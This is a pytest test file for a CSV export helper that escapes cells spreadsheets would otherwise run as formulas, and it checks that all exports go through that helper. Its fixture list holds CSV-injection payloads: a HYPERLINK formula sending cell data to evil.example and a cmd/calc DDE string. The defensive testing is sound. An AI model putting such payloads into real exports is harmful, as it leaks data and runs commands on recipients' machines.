"""CSV exports: no cell a spreadsheet would run as a formula leaves the back office,
and every export is written by the one helper that makes sure of it."""

import csv
import io
import re
from decimal import Decimal

import pytest

from config.exports import as_written, csv_download, csv_lines, spreadsheet_safe
from tests.conftest import ROOT

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_starts_like_a_formula_is_opened_as_text(text):
    assert spreadsheet_safe(text) == "'" + text


def test_numbers_the_code_computed_stay_numbers_and_strings_that_look_like_one_do_not():
    """A negative figure (a SKU oversold by 3) is still a number a manager can sum;
    the same characters sent as a name are text."""
    assert spreadsheet_safe(-3) == -3
    assert spreadsheet_safe(Decimal("-1.50")) == Decimal("-1.50")
    assert spreadsheet_safe(-0.5) == -0.5
    assert spreadsheet_safe("-3") == "'-3"
    assert spreadsheet_safe(float("-inf")) == "'-inf"
    assert spreadsheet_safe(None) == ""
    assert spreadsheet_safe("TEE-BLK-M") == "TEE-BLK-M"


def test_the_download_is_an_attachment_with_every_cell_escaped():
    answer = csv_download(
        filename="names.csv", rows=[["name", "units"], ["=1+1", -3], ["Tee", 4]]
    )
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"] == 'attachment; filename="names.csv"'
    lines = list(csv.reader(io.StringIO(answer.content.decode())))
    assert lines == [["name", "units"], ["'=1+1", "-3"], ["Tee", "4"]]


def test_a_cell_written_safe_reads_back_as_it_was():
    """A file import takes exactly one quote off (imports app): an export loaded back
    changes nothing, a quote of the name's own included."""
    for text in [*FORMULAS, "'quoted", "''twice", "TEE-BLK-M", "it's"]:
        assert as_written(spreadsheet_safe(text)) == text


def test_a_streamed_export_escapes_every_cell_too():
    lines = list(csv_lines([["name", "units"], ["=1+1", -3]]))
    assert lines == ["name,units\r\n", "'=1+1,-3\r\n"]


def test_every_export_in_the_apps_goes_through_the_one_helper():
    """A new export that writes its own CSV would skip the escaping: only
    config/exports.py may make a csv writer."""
    # Reading a file (imports/files.py) is no export: only writers are looked for.
    writers = re.compile(
        r"csv\.(writer|DictWriter)\b|from csv import .*(writer|Writer)"
    )
    found = []
    apps = [
        folder
        for folder in ROOT.iterdir()
        if (folder / "__init__.py").exists() and folder.name not in {"tests", "bench"}
    ]
    for folder in apps:
        for path in sorted(folder.rglob("*.py")):
            relative = path.relative_to(ROOT).as_posix()
            if relative != "config/exports.py" and writers.search(path.read_text()):
                found.append(relative)
    assert found == []
